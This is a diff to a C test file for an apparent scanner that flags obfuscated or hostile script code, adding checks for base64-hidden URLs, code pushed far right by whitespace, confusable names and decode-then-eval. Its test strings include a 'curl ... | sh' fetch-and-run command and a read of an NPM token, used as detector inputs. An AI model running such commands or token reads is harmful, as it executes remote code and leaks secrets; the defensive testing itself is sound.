@@ -129,6 +129,8 @@ static void texts_that_are_told(void **state)
 	               "command:curl -s http://a | sh command:/bin/sh -c x");
 	assert_strings(state, "python", "f(bytes.fromhex('68696464656e2121'))", "decoded:hidden!!");
 	assert_strings(state, "python", "x = 'hidden!!'[::-1]", "decoded:!!neddih");
+	assert_strings(state, "javascript", "let t = Buffer.from('aHR0cDovL2EuZXhhbXBsZS5jb20veA==', 'base64'); t = 2",
+	               "url:http://a.example.com/x");
 }
 
 static void numbers(void **state)
@@ -141,6 +143,22 @@ static void numbers(void **state)
 	assert_json(at(facts, "code", "dynamic_imports", NULL), "1");
 	assert_json(at(facts, "code", "measures", "hex_names", NULL), "250"); /* 3 of 12 names */
 	assert_json(at(facts, "code", "measures", "brackets", NULL), "750");  /* 3 of 4 */
+	json_decref(facts);
+	char far[200] = "f();";
+	memset(far + 4, ' ', 120);
+	strcpy(far + 124, "g(1);\nh();");
+	facts = facts_of_text(state, far, "", "javascript");
+	assert_json(at(facts, "code", "measures", "far_right", NULL), "5");
+	json_decref(facts);
+	memcpy(far + 124, "//g()", 5);
+	facts = facts_of_text(state, far, "", "javascript");
+	assert_json(at(facts, "code", "measures", "far_right", NULL), "0");
+	json_decref(facts);
+	facts = facts_of_text(state, "IlIIllI1(O0OO0O00, ________, Illinois1, Ill)", "", "javascript");
+	assert_json(at(facts, "code", "measures", "hex_names", NULL), "400"); /* 2 of 5 */
+	json_decref(facts);
+	facts = facts_of_text(state, "setTimeout(function () { x = atob(y); eval(z) }, 9)", "", "javascript");
+	assert_json(at(facts, "code", "measures", "decode_eval", NULL), "0");
 	json_decref(facts);
 	facts = facts_of_text(state, "f('\\x61\\x62'); f(process.env.NPM_TOKEN, process.env['HOME'])", "", "javascript");
 	assert_json(at(facts, "code", "measures", "escapes", NULL), "500"); /* 8 of 16 bytes */
